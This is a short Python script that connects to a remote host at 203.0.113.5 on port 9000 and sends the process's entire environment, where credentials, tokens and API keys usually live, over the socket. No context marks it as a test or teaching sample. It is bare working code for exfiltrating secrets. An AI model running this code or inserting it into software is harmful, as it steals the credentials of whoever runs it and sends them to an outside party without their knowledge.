import os
import socket

s = socket.create_connection(("203.0.113.5", 9000))
s.sendall(str(os.environ).encode())
